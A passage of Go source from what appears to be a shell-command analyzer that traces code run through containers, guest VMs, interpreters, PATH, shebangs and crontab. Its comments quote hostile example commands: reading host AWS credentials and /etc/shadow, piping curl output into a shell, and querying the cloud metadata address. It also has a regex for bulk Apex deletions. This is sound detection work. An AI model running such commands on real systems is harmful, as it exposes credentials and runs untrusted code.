		for i, a := range args.fields {
			switch {
			case a == "--wrap" && i+1 < len(args.fields):
				w.sub(args.fields[i+1], c.with("sbatch --wrap"), nil)
			case strings.HasPrefix(a, "--wrap="):
				w.sub(strings.TrimPrefix(a, "--wrap="), c.with("sbatch --wrap"), nil)
			}
		}
		if rest := skipOpts(args.fields, "p", "N", "n", "c", "t", "A", "J", "o", "e", "w", "x", "G", "q", "D", "d"); len(rest) > 0 && !strings.HasPrefix(rest[0], "-") && !slices.ContainsFunc(args.fields, func(a string) bool { return strings.HasPrefix(a, "--wrap") }) {
			w.runFile(cmd, rest[0], c.with("sbatch "+rest[0]), rest)
		}
	case name == "watch":
		if rest := skipOpts(args.fields, "n", "d", "x", "q", "s"); len(rest) > 0 {
			w.sub(strings.Join(rest, " "), c.with("watch"), nil)
		}
	case name == "helm":
		w.applyManifests(name, args.fields, c, in)
	case name == "apptainer" || name == "singularity":
		if rest := apptainerExec(args.fields); len(rest) > 0 {
			w.emit(newRaw(rest), c.with(name+" exec"), in)
		}
	case name == "docker" || name == "podman" || name == "kubectl" || name == "oc" || name == "nerdctl" || name == "finch":
		// OpenShift's oc takes kubectl's exec, cp and debug syntax.
		prog := name
		if prog == "oc" {
			prog = "kubectl"
		}
		if prog == "kubectl" {
			w.applyManifests(name, args.fields, c, in)
		}
		if src, dst, ok := containerCopy(prog, args.fields); ok {
			// "kubectl cp ./p.sh pod:/tmp/p.sh": the file is at the
			// container's path now, for a later "exec -- sh /tmp/p.sh".
			w.sub(joinQuoted([]string{"cp", src, dst}), c.with(name+" cp"), nil)
		} else if rest := containerExec(prog, args.fields); len(rest) > 0 {
			label := name + " exec"
			if prog == "kubectl" {
				// The namespace and pod travel too ("kubectl exec
				// e2e-tmp/redis-test-0"): rules can tell a scratch one.
				if place := kubeExecPlace(args.fields); place != "" {
					label += " " + place
				}
			}
			if k := len(args.fields) - len(rest) - 1; prog != "kubectl" && k >= 0 {
				if len(w.st.Mounts[args.fields[k]]) > 0 {
					// "docker exec dbg cat /h/.aws/credentials" in a
					// container the session started with -v $HOME:/h
					// reads the host's file.
					rest = rewriteMounts(rest, w.st.Mounts[args.fields[k]])
				}
				// The container's name travels with the command
				// ("docker exec redis-dev"): rules can tell a dev one.
				if !Unknown(args.fields[k]) {
					label += " " + args.fields[k]
				}
			}
			nr := newRaw(rest)
			if off := len(args.fields) - len(rest); off >= 0 && len(args.srcs) == len(args.fields) {
				// What the words came from travels with them: "kubectl
				// exec POD -- sh -c "$(curl URL)"" runs what curl fetched.
				copy(nr.srcs, args.srcs[off:])
			}
			// "kubectl exec -i POD -- sh < script": the command in the
			// container reads exec's standard input.
			w.emit(nr, c.with(label), in)
		} else if rest := containerRun(prog, args.fields, w.st.setMounts); len(rest) > 0 {
			nr := newRaw(rest)
			w.emit(nr, c.with(name+" run"), stdinInfo{})
		} else if prog != "kubectl" && len(args.fields) > 1 && args.fields[0] == "compose" {
			if svc, rest := composeExec(args.fields[1:]); len(rest) > 0 {
				w.emit(newRaw(rest), c.with(name+" compose exec "+svc), in)
			}
			w.composeUp(name, args.fields[1:], c)
		}
	case name == "pct" || name == "qm" || name == "lxc" || name == "incus" || name == "multipass" || name == "lxc-attach" || name == "nomad" || name == "prlctl":
		// A command run inside a guest or an allocation ("pct exec 205
		// -- bash -c ...", "qm guest exec 101 -- cat /etc/shadow",
		// "nomad alloc exec -task web ID sh -c ...") is that command.
		if rest := guestExec(name, args.fields); len(rest) > 0 {
			w.emit(newRaw(rest), c.with(name+" exec"), in)
		}
	case name == "docker-compose" || name == "podman-compose":
		if svc, rest := composeExec(args.fields); len(rest) > 0 {
			w.emit(newRaw(rest), c.with(name+" exec "+svc), in)
		}
		w.composeUp("docker", args.fields, c)
	}
	// Running a file by path ("./x.sh", "/tmp/x"): the file's content, if
	// the session wrote it. A bare name runs a downloaded file too when
	// the shell looks in the working directory (cmd.exe, PATH=.).
	if !strings.Contains(cmd.Program, "/") && !Unknown(cmd.Program) {
		if f, ok := w.st.Files[CleanPath(cmd.Program)]; ok && f.Downloaded && strings.Contains(cmd.Program, ".") {
			w.runFile(cmd, cmd.Program, c.with("script:"+CleanPath(cmd.Program)), append([]string{cmd.Program}, cmd.Args...))
		} else if p := w.onPath(cmd.Program); p != "" {
			// A directory the session put on PATH holds a file of this
			// name that the session wrote ("export PATH=~/bin:$PATH",
			// then "update"): that file runs.
			w.runFile(cmd, p, c.with("script:"+p), append([]string{p}, cmd.Args...))
		}
	}
	if strings.Contains(cmd.Program, "/") {
		w.runFile(cmd, cmd.Program, c.with("script:"+CleanPath(cmd.Program)), append([]string{cmd.Program}, cmd.Args...))
	} else if p := w.pathLookup(cmd.Program, cmd.Env); p != "" {
		w.runFile(cmd, p, c.with("script:"+CleanPath(p)), append([]string{p}, cmd.Args...))
	}
}

// pathLookup finds a bare program name among the files the session wrote
// or downloaded, searching the PATH the session set (or a usual one):
// "export PATH=/tmp/bin:$PATH" after writing /tmp/bin/ls makes a later
// "ls" run that file. The search stops at the system directories, where
// the real program would be found first.
//
// A PATH assigned for the command alone ("PATH=/tmp/b:$PATH ls") is the
// one searched.
func (w *walker) pathLookup(name string, env []string) string {
	if name == "" || Unknown(name) || len(w.st.Files) == 0 {
		return ""
	}
	pathVar, ok := w.st.Vars["PATH"]
	for _, e := range env {
		if v, found := strings.CutPrefix(e, "PATH="); found {
			pathVar, ok = v, true
		}
	}
	if !ok {
		// The usual PATH of a user's shell: a program the session put
		// in ~/bin or /usr/local/bin ("curl -o ~/bin/tool URL", then
		// "tool") is what the bare name runs.
		pathVar = defaultPath
	}
	for _, dir := range strings.Split(pathVar, ":") {
		if dir == "" || Unknown(dir) {
			continue
		}
		// Exact paths only: a PATH directory is searched by name, and the
		// base-name fallback of LookupFile would match any file so named.
		p := strings.TrimRight(dir, "/") + "/" + name
		if w.st.lookupExact(CleanPath(p)) != nil {
			return p
		}
		if systemBinDir(strings.TrimRight(dir, "/")) {
			// The system's own programs: past these, a name is found
			// there, not in a directory listed later.
			return ""
		}
	}
	return ""
}

// systemBinDir reports whether dir holds the system's own programs.
func systemBinDir(dir string) bool {
	switch dir {
	case "/usr/local/sbin", "/usr/sbin", "/usr/bin", "/sbin", "/bin":
		return true
	}
	return false
}

// defaultPath is the search path assumed when the session set none.
const defaultPath = "~/.local/bin:~/bin:/usr/local/bin:/usr/bin:/bin"

// stdinShell records a shell started without a script: it runs what its
// standard input carries.
func (w *walker) stdinShell(cmd *Command, c ctx, in stdinInfo) {
	cmd.CodeFrom = append(cmd.CodeFrom, in.sources...)
	if in.known {
		w.sub(in.content, c.with(viaStdin(cmd.Name, in)), nil)
	}
}

func allSrcs(r rawCmd) []Source {
	var out []Source
	for _, s := range r.srcs {
		out = append(out, s...)
	}
	return out
}

func fullyUnknown(s string) bool {
	s = strings.TrimSpace(s)
	return s == "" || (StartsUnknown(s) && strings.HasSuffix(s, unkClose) && strings.Count(s, unkOpen) == 1)
}

// sub parses text as a nested script.
func (w *walker) sub(text string, c ctx, pos []string) {
	if strings.TrimSpace(text) == "" {
		return
	}
	c.pos = pos
	c.pipeID, c.pipeIdx, c.pipeLen = 0, 0, 0
	w.depth++
	_ = w.script(text, c)
	w.depth--
}

func (w *walker) runShell(cmd *Command, args rawCmd, c ctx, in stdinInfo) {
	f := args.fields
	cmode, stdinMode := false, false
	i := 0
loop:
	for i < len(f) {
		a := f[i]
		switch {
		case a == "--":
			i++
			break loop
		case a == "-":
			stdinMode = true
			i++
			break loop
		case strings.HasPrefix(a, "--"):
			if a == "--rcfile" || a == "--init-file" {
				i++
			}
			if a == "--command" {
				cmode = true
			}
			i++
		case len(a) > 1 && (a[0] == '-' || a[0] == '+'):
			for _, ch := range a[1:] {
				switch ch {
				case 'c':
					cmode = true
				case 's':
					stdinMode = true
				case 'o', 'O':
					i++
				}
			}
			i++
		default:
			break loop
		}
	}
	for _, a := range f[:min(i, len(f))] {
		if len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsRune(a, 'n') || a == "--noexec" {
			// "bash -n script": a syntax check, nothing runs.
			return
		}
	}
	ops := f[min(i, len(f)):]
	if len(ops) > 0 && (ops[0] == "/dev/stdin" || ops[0] == "/proc/self/fd/0") && !cmode {
		stdinMode = true
	}
	opsrc := args.srcs[min(i, len(args.srcs)):]
	switch {
	case cmode && len(ops) > 0:
		cmd.CodeFrom = append(cmd.CodeFrom, opsrc[0]...)
		if !fullyUnknown(ops[0]) {
			// The script reads the shell's stdin.
			cc := c.with(cmd.Name + " -c")
			cc.stdin = in
			// "IMDS=169.254.169.254 sh -c 'curl http://$IMDS/'": the
			// assignments made for the shell are in the script's
			// environment, for this script only.
			restore := w.tempEnv(cmd.Env)
			w.sub(ops[0], cc, ops[1:])
			restore()
		}
	case !stdinMode && len(ops) > 0:
		cmd.CodeFrom = append(cmd.CodeFrom, opsrc[0]...)
		w.runFile(cmd, ops[0], c.with("script:"+CleanPath(ops[0])), ops)
	default:
		cmd.CodeFrom = append(cmd.CodeFrom, in.sources...)
		if in.known {
			w.sub(in.content, c.with(viaStdin(cmd.Name, in)), nil)
		}
	}
}

func viaStdin(name string, in stdinInfo) string {
	switch in.kind {
	case "heredoc":
		return name + " <<EOF"
	case "herestring":
		return name + " <<<"
	case "file":
		return name + " <"
	}
	return "| " + name
}

// runFile evaluates a file the session wrote or downloaded, when it is
// executed.
func (w *walker) runFile(cmd *Command, p string, c ctx, pos []string) {
	if Unknown(p) {
		return
	}
	key, f := w.st.LookupFile(p)
	if f == nil {
		// ./target/debug/NAME: the binary cargo built from the session's
		// src/bin/NAME.rs or src/main.rs.
		if cp := CleanPath(p); strings.Contains(cp, "target/debug/") || strings.Contains(cp, "target/release/") {
			w.runSources(w.cargoBinSources(path.Base(cp)), "rust", "cargo binary", c, pos[min(1, len(pos)):])
		}
		return
	}
	if w.st.earlier("file:" + key) {
		c.crossCall = true
		if !cmd.HasNote("cross-call") {
			cmd.Notes = append(cmd.Notes, "cross-call")
		}
	}
	if f.Downloaded {
		if !f.Verified {
			cmd.CodeFrom = append(cmd.CodeFrom, Source{Kind: "download", Name: firstWord(f.From), Text: f.From})
		}
		return
	}
	if rest, ok := shebangSplit(f.Content); ok && !shells[cmd.Name] && Interpreter(cmd.Name) == "" {
		// Run directly, "#!/usr/bin/env -S bash -c 'CMD'" makes the
		// kernel run env with that line: the interpreter's own options
		// are a command of their own.
		w.sub("env -S "+quote(rest)+" "+quote(p), c.with("#!env -S"), nil)
	}
	lang := f.Lang
	if lang == "" {
		lang = shebangLang(f.Content, key)
	}
	if lang != "" && lang != "sh" {
		var argv []string
		if len(pos) > 1 {
			argv = pos[1:]
		}
		for _, s := range extractScript(lang, f.Content, argv) {
			w.codeItem(s, c)
		}
		return
	}
	// "ES_URL=http://es-prod:9200 bash bin/reset": the script starts
	// with the command's own assignments in its environment.
	defer w.tempEnv(cmd.Env)()
	if ext := strings.ToLower(path.Ext(key)); ext == ".bat" || ext == ".cmd" {
		// A batch file is read by cmd.exe a line at a time; a POSIX
		// reading of the whole fails on its first "for ... in (...)"
		// and loses its backslashes. "%%d" is the file's spelling of a
		// loop variable.
		for _, line := range strings.Split(f.Content, "\n") {
			line = strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(line), "@"))
			low := strings.ToLower(line)
			if line == "" || strings.HasPrefix(low, "rem ") || low == "rem" || strings.HasPrefix(line, "::") || strings.HasPrefix(low, "echo ") || strings.HasPrefix(low, "echo.") || low == "echo off" {
				continue
			}
			w.sub(strings.ReplaceAll(line, "%%", "%"), c, pos)
		}
		return
	}
	w.sub(f.Content, c, pos)
}

// apexRun reads "sf apex run --file F --target-org ORG" (and sfdx
// force:apex:execute): anonymous Apex that deletes records and empties
// the recycle bin, or deletes what a query selected, runs in that org.
// It is an "sdk-destroy apex ORG CODE" item for the rules, which look
// for a production org's name.
func (w *walker) apexRun(cmd *Command, args rawCmd, c ctx, in stdinInfo) {
	f := args.fields
	apex := len(f) >= 2 && f[0] == "apex" && f[1] == "run" || len(f) >= 1 && f[0] == "force:apex:execute"
	if !apex {
		return
	}
	file, org := "", ""
	for i, a := range f {
		next := ""
		if i+1 < len(f) {
			next = f[i+1]
		}
		switch {
		case a == "--file" || a == "-f" || a == "--apexcodefile":
			file = next
		case strings.HasPrefix(a, "--file="):
			file = a[len("--file="):]
		case a == "--target-org" || a == "-o" || a == "-u" || a == "--targetusername":
			org = next
		case strings.HasPrefix(a, "--target-org="):
			org = a[len("--target-org="):]
		}
	}
	code := ""
	if file != "" {
		if _, fl := w.st.LookupFile(file); fl != nil {
			code = fl.Content
		}
	} else if in.known {
		code = in.content
	}
	if code != "" && apexDeleteRe.MatchString(code) {
		w.codeItem(codeItem{argv: []string{"sdk-destroy", "apex", org + " " + clip(code, 400)}, via: "sf apex run", text: clip(code, 200)}, c)
	}
}

// apexDeleteRe is Apex that deletes records in bulk: a DML delete of a
// query's result or a list, Database.delete, or emptying the recycle bin.
var apexDeleteRe = refilter.MustCompile(`(?i)\bdelete\s+(\[\s*select\b|\w+\s*;)|\bDatabase\.(delete|emptyRecycleBin)\s*\(`)

// pathlessBuiltins are shell builtins that no system installs as a file
// (so "/export" cannot be them).
var pathlessBuiltins = map[string]bool{"export": true, "set": true, "declare": true, "typeset": true, "alias": true, "unset": true,
	"history": true, "source": true, "eval": true, "exec": true, "readonly": true, "local": true}

// lfsFind is "lfs find ARGS" as find: the "lfs" word dropped and
// lfs's long predicates (--type, --mtime, --name, ...) spelt find's way.
func lfsFind(r rawCmd) rawCmd {
	n := r
	n.fields = append([]string(nil), r.fields[1:]...)
	if len(r.unres) == len(r.fields) {
		n.unres = append([]bool(nil), r.unres[1:]...)
	}
	if len(r.srcs) == len(r.fields) {
		n.srcs = append([][]Source(nil), r.srcs[1:]...)
	}
	for i, a := range n.fields {
		switch a {
		case "--type", "--mtime", "--atime", "--ctime", "--name", "--size", "--uid", "--user", "--gid", "--group", "--maxdepth", "--print0", "--print":
			n.fields[i] = a[1:]
		}
	}
	return n
}

// shebangSplit returns what follows "env -S" on a script's #! line.
func shebangSplit(content string) (string, bool) {
	if !strings.HasPrefix(content, "#!") {
		return "", false
	}
	line, _, _ := strings.Cut(content[2:], "\n")
	fs := strings.Fields(line)
	if len(fs) < 3 || path.Base(fs[0]) != "env" || fs[1] != "-S" && fs[1] != "--split-string" {
		return "", false
	}
	_, rest, _ := strings.Cut(line, fs[1])
	return strings.TrimSpace(rest), true
}

// shebangLang guesses a script's language from its #! line or extension.
func shebangLang(content, p string) string {
	if strings.HasPrefix(content, "#!") {
		line, _, _ := strings.Cut(content, "\n")
		fs := strings.Fields(line[2:])
		if len(fs) > 0 {
			prog := path.Base(fs[0])
			if prog == "env" && len(fs) > 1 {
				prog = fs[1]
				if prog == "-S" && len(fs) > 2 {
					prog = fs[2]
				}
			}
			if shells[prog] {
				return "sh"
			}
			if l := Interpreter(prog); l != "" {
				return l
			}
		}
	}
	switch path.Ext(p) {
	case ".py":
		return "python"
	case ".pl":
		return "perl"
	case ".rb":
		return "ruby"
	case ".js", ".mjs", ".cjs", ".ts":
		return "node"
	case ".php":
		return "php"
	}
	return "sh"
}

// crontabInput is the text a crontab command installs: a file the
// session wrote, its known standard input, or what the echo and printf
// commands feeding it print (crontab -l's part is the existing table).
func (w *walker) crontabInput(f []string, in stdinInfo) []string {
	var files []string
	for i := 0; i < len(f); i++ {
		switch a := f[i]; {
		case a == "-u":
			i++
		case a == "-l" || a == "-r" || a == "-e" || a == "-i":
			return nil // list, remove, edit: nothing installed from here
		case a != "-" && !strings.HasPrefix(a, "-"):
			files = append(files, a)
		}
	}
	var text string
	switch {
	case len(files) == 1:
		if _, file := w.st.LookupFile(files[0]); file != nil && !file.Downloaded {
			text = file.Content
		}
	case in.known:
		text = in.content
	default:
		for _, src := range in.sources {
			if src.Name == "echo" || src.Name == "printf" {
				if out, ok := staticOut(src.Name, src.Args, stdinInfo{}, w.st); ok {
					text += out + "\n"
				}
			}
		}
	}
	if len(text) > 64<<10 {
		text = text[:64<<10]
	}
	return strings.Split(text, "\n")
}

// cronCommand is the command of one crontab line ("m h dom mon dow CMD"
// or "@reboot CMD"), or "" for a comment, an assignment or a blank line.
func cronCommand(line string) string {
	line = strings.TrimSpace(line)
	if line == "" || strings.HasPrefix(line, "#") {
		return ""
	}
	f := strings.Fields(line)
	if strings.HasPrefix(f[0], "@") {
		return strings.TrimSpace(strings.TrimPrefix(line, f[0]))
	}
	if len(f) < 6 || strings.Contains(f[0], "=") {
		return ""
	}
	rest := line
	for i := 0; i < 5; i++ {
		rest = strings.TrimLeft(rest, " \t")
		j := strings.IndexAny(rest, " \t")
		if j < 0 {
			return ""
		}
		rest = rest[j:]
	}
	return strings.TrimSpace(rest)
}

// pyImportRe finds Python's import statements: "from a.b import c",
// "import a.b".
var pyImportRe = refilter.MustCompile(`(?m)(?:^|[;\n])\s*(?:from\s+([A-Za-z_][\w.]*)\s+import\b|import\s+([A-Za-z_][\w.]*))`)

// localImports runs the modules Python code imports that the session
// wrote itself (utils/telemetry.py, then "from utils.telemetry import
// ping; ping()"): importing runs the module, and its functions are what
// the code calls.
func (w *walker) localImports(cmd *Command, code string, c ctx) {
	if !w.st.wrotePython {
		return // no module of the session's own to import
	}
	for _, m := range pyImportRe.FindAllStringSubmatch(code, 8) {
		mod := m[1] + m[2]
		rel := strings.ReplaceAll(mod, ".", "/")
		for _, p := range []string{rel + ".py", rel + "/__init__.py"} {
			if _, f := w.st.LookupFile(p); f != nil && !contains(c.via, "import "+mod) {
				w.runFile(cmd, p, c.with("import "+mod), nil)
				break
			}
		}
	}
}

// onPath is the file the session wrote that name resolves to through a
// directory of PATH, before the system directories; "" when none.
func (w *walker) onPath(name string) string {
	pv, ok := w.st.Vars["PATH"]
	if !ok || len(w.st.Files) == 0 {
		return ""
	}
	for _, dir := range strings.Split(pv, ":") {
		if dir == "" || Unknown(dir) || strings.HasPrefix(dir, "/usr/") || strings.HasPrefix(dir, "/bin") || strings.HasPrefix(dir, "/sbin") {
			continue
		}
		p := CleanPath(dir + "/" + name)
		if _, f := w.st.LookupFile(p); f != nil {
			return p
		}
	}
	return ""
}

// envValue is NAME's value for a command: its own assignment, else the
// session's.
func (w *walker) envValue(env []string, name string) string {
	for _, e := range env {
		if v, ok := strings.CutPrefix(e, name+"="); ok {
			return v
		}
	}
	return w.st.Vars[name]
}

func containsPrefix(f []string, pre string) bool {
	for _, a := range f {
		if strings.HasPrefix(a, pre) {
			return true
		}
	}
	return false
}

// awkInputWords is what awk's field references stand for: the first
// field of each known input line, else what a listing upstream hands on
// (as xargs reads it), else nil.
func awkInputWords(in stdinInfo) []string {
	if !in.known {
		return sourceWords(in)
	}
	var words []string
	for _, l := range strings.Split(in.content, "\n") {
		if fs := strings.Fields(l); len(fs) > 0 && len(words) < 8 {
			words = append(words, fs[0])
		}
	}
	return words
}

// withInputWords puts each input word in place of the input-word marker
// in a code item (one item per word); an item without the marker, or
// with no known words, is returned as it is.
func withInputWords(it codeItem, words []string) []codeItem {
	if len(words) == 0 || !strings.Contains(it.shell+strings.Join(it.argv, "\x00"), stdinWord) {
		return []codeItem{it}
	}
	out := make([]codeItem, 0, len(words))
	for _, wd := range words {
		n := it
		n.shell = strings.ReplaceAll(it.shell, stdinWord, wd)
		if it.argv != nil {
			n.argv = make([]string, len(it.argv))
			for i, a := range it.argv {
				n.argv[i] = strings.ReplaceAll(a, stdinWord, wd)
			}
		}
		out = append(out, n)
	}
	return out
}

// splitIFS splits a line read by read into words: on whitespace, or on
// the characters of a non-default IFS.
func splitIFS(line, ifs string) []string {
	if ifs == "" || Unknown(ifs) || strings.Trim(ifs, " \t\n") == "" {
		return strings.Fields(line)
	}
	return strings.FieldsFunc(line, func(r rune) bool { return strings.ContainsRune(ifs, r) })
}

// flagCluster reports whether a is several one-letter switches given
// together ("-le", "-lne").
func flagCluster(a string) bool {
	if len(a) < 3 || a[0] != '-' || a[1] == '-' {
		return false
	}
	for i := 1; i < len(a); i++ {
		if c := a[i]; c < 'A' || c > 'z' || c > 'Z' && c < 'a' {
			return false
		}
	}
	return true
}

// awkNameRe is an awk variable name.
var awkNameRe = refilter.MustCompile(`^[A-Za-z_][A-Za-z0-9_]*$`)

func (w *walker) runInterp(cmd *Command, lang string, args rawCmd, c ctx, in stdinInfo) {
	f := args.fields
	if lang == "awk" {
		// awk [-F fs] [-v a=b] 'program' file...; -f progfile.
		var assigns strings.Builder
		assign := func(kv string) {
			// -v t="$T": the program's t holds the value, as if assigned
			// at its start.
			name, val, ok := strings.Cut(kv, "=")
			if ok && awkNameRe.MatchString(name) && !strings.ContainsAny(val, "\"\\\n") {
				assigns.WriteString("BEGIN { " + name + " = \"" + val + "\" }\n")
			}
		}
		for i := 0; i < len(f); i++ {
			a := f[i]
			switch {
			case (a == "-v" || a == "--assign") && i+1 < len(f):
				assign(f[i+1])
				i++
			case strings.HasPrefix(a, "-v") && len(a) > 2:
				assign(a[2:])
			case strings.HasPrefix(a, "--assign="):
				assign(strings.TrimPrefix(a, "--assign="))
			case a == "-F" || a == "-v" || a == "--assign" || a == "--field-separator":
				i++
			case a == "-f" || a == "--file":
				return
			case strings.HasPrefix(a, "-") && len(a) > 1:
			default:
				if i+1 < len(f) {
					// The fields come from the input files, not stdin.
					in = w.fileStdin(f[i+1], nil)
				}
				words := awkInputWords(in)
				for _, s := range extractCode("awk", assigns.String()+a) {
					for _, it := range withInputWords(s, words) {
						w.codeItem(it, c.with(cmd.Name))
					}
				}
				return
			}
		}
		return
	}
	if checkOnly(lang, f) {
		// php -l, ruby -c, perl -c, node --check: the file is parsed, not
		// run.
		return
	}
	if lang == "python" {
		w.pthStartup(c)
	}
	codeFlags := map[string]bool{}
	argFlags := map[string]bool{}
	switch lang {
	case "python":
		codeFlags["-c"] = true
		argFlags["-W"], argFlags["-X"], argFlags["-m"] = true, true, true
	case "perl":
		codeFlags["-e"], codeFlags["-E"] = true, true
		argFlags["-I"], argFlags["-M"], argFlags["-m"] = true, true, true
	case "ruby":
		codeFlags["-e"] = true
		argFlags["-r"], argFlags["-I"] = true, true
	case "node":
		codeFlags["-e"], codeFlags["--eval"], codeFlags["-p"], codeFlags["--print"], codeFlags["eval"] = true, true, true, true, true
		argFlags["-r"], argFlags["--require"], argFlags["--import"] = true, true, true
	case "php":
		codeFlags["-r"] = true
		argFlags["-d"], argFlags["-c"] = true, true
	case "lua", "applescript", "r", "java", "julia", "haskell", "clojure":
		codeFlags["-e"] = true
		if lang == "clojure" {
			codeFlags["--eval"] = true
		}
		if lang == "applescript" {
			// osascript -l JavaScript -s o -e CODE
			argFlags["-l"], argFlags["-s"] = true, true
		}
	case "elixir":
		codeFlags["-e"], codeFlags["--eval"] = true, true
		argFlags["-r"], argFlags["-pa"], argFlags["-pz"], argFlags["--erl"] = true, true, true, true
	}
	via := cmd.Name + " " + firstKey(codeFlags)
	hadCode := false
	for i := 0; i < len(f); i++ {
		a := f[i]
		key := a
		if !codeFlags[a] && flagCluster(a) && codeFlags["-"+a[len(a)-1:]] && !noFlagClusters[lang] {
			// perl -le CODE, ruby -ne CODE, node -pe CODE, python3 -uc
			// CODE: switches bundled with the code switch last.
			key = "-" + a[len(a)-1:]
		}
		if codeFlags[key] && i+1 < len(f) {
			hadCode = true
			cmd.CodeFrom = append(cmd.CodeFrom, args.srcs[i+1]...)
			code := f[i+1]
			if stdinEvalRe.MatchString(code) || stdinEventEval(code) {
				// The code runs what arrives on standard input.
				cmd.CodeFrom = append(cmd.CodeFrom, in.sources...)
				if in.known {
					for _, s := range extractCode(lang, in.content) {
						w.codeItem(s, c.with(viaStdin(cmd.Name, in)))
					}
				}
			}
			if lang == "node" && (a == "-p" || a == "--print" || key != a && strings.Contains(a, "p")) {
				// -p prints the value of the expression.
				code = "console.log(" + code + ")"
			}
			// "perl -e 'rmtree(shift)' ~", "python3 -c '...sys.argv[1]' /":
			// the words after the code are its arguments.
			var argv []string
			if i+2 < len(f) && !strings.HasPrefix(f[i+2], "-") {
				argv = f[i+2:]
			}
			for _, s := range extractScript(lang, code, argv) {
				w.codeItem(s, c.with(via))
			}
			if lang == "python" {
				w.localImports(cmd, code, c.with(via))
			}
			i++
			continue
		}
		// Attached form: python -c'code', perl -e'code'.
		if len(a) > 2 && a[0] == '-' && a[1] != '-' && codeFlags[a[:2]] && lang != "node" {
			hadCode = true
			for _, s := range extractCode(lang, a[2:]) {
				w.codeItem(s, c.with(via))
			}
			continue
		}
		if a == "-m" || (lang == "python" && strings.HasPrefix(a, "-m") && len(a) > 2) {
			// A module, not code from stdin or a file; "python -m pytest"
			// runs what pytest itself would (conftest.py, test files).
			mod, rest := strings.TrimPrefix(a, "-m"), []string(nil)
			if mod == "" && i+1 < len(f) {
				mod, rest = f[i+1], f[i+2:]
			} else if i+1 < len(f) {
				rest = f[i+1:]
			}
			if lang == "python" && buildTriggers[mod] != nil && len(w.st.Files) > 0 {
				mc := *cmd
				mc.Name, mc.Args = mod, rest
				w.runTask(&mc, c.with(cmd.Name+" -m "+mod))
			}
			return
		}
		if argFlags[a] {
			i++
			continue
		}
		if strings.HasPrefix(a, "-") && a != "-" {
			continue
		}
		if hadCode {
			return
		}
		if a == "-" {
			break
		}
		// A script file.
		cmd.CodeFrom = append(cmd.CodeFrom, args.srcs[i]...)
		if lang == "python" && path.Base(a) == "manage.py" {
			// Django's "manage.py shell -c CODE" (or --command) runs CODE
			// in the project's settings.
			rest := f[i+1:]
			for j := 0; j+2 < len(rest); j++ {
				if rest[j] == "shell" && (rest[j+1] == "-c" || rest[j+1] == "--command") {
					for _, s := range extractCode("python", rest[j+2]) {
						w.codeItem(s, c.with("manage.py shell -c"))
					}
					break
				}
			}
		}
		if key, fl := w.st.LookupFile(a); fl != nil {
			if w.st.earlier("file:"+key) && !cmd.HasNote("cross-call") {
				cmd.Notes = append(cmd.Notes, "cross-call")
			}
			if fl.Downloaded {
				if !fl.Verified {
					cmd.CodeFrom = append(cmd.CodeFrom, Source{Kind: "download", Name: firstWord(fl.From), Text: fl.From})
				}
				return
			}
			cc := c.with("script:" + key)
			cc.crossCall = cc.crossCall || w.st.earlier("file:"+key)
			for _, s := range extractScript(lang, fl.Content, args.fields[i+1:]) {
				w.codeItem(s, cc)
			}
		}
		return
	}
	if hadCode {
		return
	}
	// Code on standard input.
	cmd.CodeFrom = append(cmd.CodeFrom, in.sources...)
	if in.known {
		for _, s := range extractCode(lang, in.content) {
			w.codeItem(s, c.with(viaStdin(cmd.Name, in)))
		}
	}
}

func firstKey(m map[string]bool) string {
	for _, k := range []string{"-c", "-e", "-r", "-E", "--eval"} {
		if m[k] {
			return k
		}
	}
	return ""
}

// codeItem runs one thing extracted from interpreter code: a shell string
// or an argument vector.
func (w *walker) codeItem(it codeItem, c ctx) {
	if len(w.out) > maxCommands {
		return
	}
	if len(it.env) > 0 {
		// The code's own environment reaches the commands it starts,
		// not the session's later calls: set for this item only.
		saved := make(map[string]*string, len(it.env))
		for k, v := range it.env {
			if old, ok := w.st.Vars[k]; ok {
				saved[k] = &old
			} else {
				saved[k] = nil
			}
			w.st.Vars[k] = v
		}
		defer func() {
			for k, old := range saved {
				if old == nil {
					delete(w.st.Vars, k)
				} else {
					w.st.Vars[k] = *old
				}
			}
		}()
	}
	if it.argv != nil {
		// A copy: items may come from the session's memo (extractMemo).
		argv := make([]string, len(it.argv))
		for i, a := range it.argv {
			argv[i] = w.codeEnv(a)
			if it.known && Unknown(argv[i]) {
				return // a path from a variable the session never set
			}
		}
		nr := newRaw(argv)
		nr.text = it.text
		nr.notes = it.notes
		via := it.via
		if it.assigned {
			c = c.with("assign")
			via += " unshown"
		}
		if it.dir != "" {
			// The process runs there; the session's own directory is
			// unchanged after it.
			cwd, byCd := w.st.Cwd, w.st.CwdByCd
			w.chdir([]string{it.dir})
			defer func() { w.st.Cwd, w.st.CwdByCd = cwd, byCd }()
		}
		w.depth++
		w.emit(nr, c.with(via), stdinInfo{})
		w.depth--
		return
	}
	w.sub(w.codeEnv(it.shell), c.with(it.via), nil)
}

// codeEnv fills in the environment variables code read (os.environ["X"])
// with the values the session exported; the others stay unknown, named
// like the shell's own unset variables.
func (w *walker) codeEnv(s string) string {
	mark := unkOpen + envMark
	for strings.Contains(s, mark) {
		i := strings.Index(s, mark)
		j := strings.Index(s[i:], unkClose)
		if j < 0 {
			break
		}
		name, def, hasDef := strings.Cut(s[i+len(mark):i+j], envDefault)
		v, ok := w.st.Vars[name]
		switch {
		case ok:
		case hasDef:
			v = def
		default:
			v = unkOpen + name + unkClose
		}
		s = s[:i] + v + s[i+j+len(unkClose):]
	}
	return s
}

// elispRe finds the Emacs Lisp calls that run, delete or read, with a
// string argument.
var elispRe = refilter.MustCompile(`\((shell-command|call-process-shell-command|shell-command-to-string|async-shell-command|delete-directory|delete-file|find-file|insert-file-contents)\s+"((?:[^"\\]|\\.)*)"`)

// cmdSlashC finds cmd.exe's /c (/k, /r) switch in a command's text.
var cmdSlashC = refilter.MustCompile(`(?i)\bcmd(?:\.exe)?\s+(?:/[a-bd-jl-qs-z]\S*\s+)*/[ckr]\s+`)

// checkOnly reports whether an interpreter's flags only check syntax.
func checkOnly(lang string, f []string) bool {
	for _, a := range f {
		switch {
		case lang == "php" && a == "-l", lang == "ruby" && (a == "-c" || a == "-wc" || a == "-cw"),
			lang == "perl" && (a == "-c" || a == "-wc" || a == "-cw"), lang == "node" && (a == "--check" || a == "-c"):
			return true
		case !strings.HasPrefix(a, "-"):
			return false // options after the file belong to the program
		}
	}
	return false
}

// remoteMakefile reports whether make's Makefile is fetched code, and
// records where it came from.
func (w *walker) remoteMakefile(cmd *Command, args rawCmd, in stdinInfo) bool {
	f := args.fields
